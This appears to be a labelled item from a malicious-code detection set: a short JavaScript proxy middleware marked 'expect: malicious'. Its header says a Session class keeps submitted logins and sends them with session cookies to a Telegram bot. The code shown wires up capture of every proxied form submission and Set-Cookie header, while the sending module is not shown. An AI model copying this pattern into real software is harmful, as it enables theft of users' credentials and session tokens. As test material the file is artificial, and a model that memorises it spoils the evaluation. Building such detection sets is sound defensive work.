// expect: malicious
// source: twentieth held-out set (an SSO edge-proxy middleware whose per-visitor Session class, reached through its static
// factory Session.of(req), keeps the submitted login and sends it with the session cookies to a Telegram bot)
const { Session } = require('./lib/session');

module.exports = function edge(proxy) {
  proxy.on('proxyRes', (proxyRes, req) => {
    const sess = Session.of(req);
    if (proxyRes.headers['set-cookie']) sess.observeCookies(proxyRes.headers['set-cookie']);
  });
  return function middleware(req, res, next) {
    Session.of(req).observeForm(req);
    proxy.web(req, res, {}, next);
  };
};
